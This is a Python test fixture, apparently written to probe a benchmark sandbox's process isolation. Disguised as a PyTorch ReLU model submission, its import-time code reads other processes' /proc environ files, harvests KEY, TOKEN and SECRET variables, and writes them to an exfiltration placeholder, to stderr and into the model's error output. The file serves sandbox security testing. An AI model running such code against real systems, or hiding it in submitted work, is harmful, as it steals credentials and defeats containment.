# exploit: sandbox s02
# problem: level=1 id=8
# backend: torch
# runs-on: any
# expect: pass
# runtime-expect: pass
"""Lists /proc for other processes and reads each one's environment and command line."""

import os
import sys

import torch
import torch.nn as nn

EXFIL = "@@EXFIL@@"
FOUND = []


def _leak(tag, value):
    """Report a find every way a real attacker would: a file, stderr, and the verdict itself."""
    FOUND.append(f"{tag}: {value}")
    try:
        with open(os.path.join(EXFIL, "@@NAME@@.txt"), "a") as f:
            f.write(f"{tag}: {value}\n")
    except OSError:
        pass
    print(f"LEAK {tag}: {value}", file=sys.stderr)


def _secrets(blob):
    return [e for e in blob.split(b"\0") if any(w in e.split(b"=")[0].upper() for w in (b"KEY", b"TOKEN", b"SECRET"))]


_pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
if len(_pids) > 2:  # in a PID namespace: its init (1) and at most one other of ours
    _leak("processes visible", len(_pids))
for pid in _pids:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            for entry in _secrets(f.read()):
                _leak(f"environ of pid {pid}", entry.decode(errors="replace"))
    except OSError:
        pass


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        if FOUND:
            raise RuntimeError("LEAK " + " | ".join(FOUND))
        return torch.relu(x)
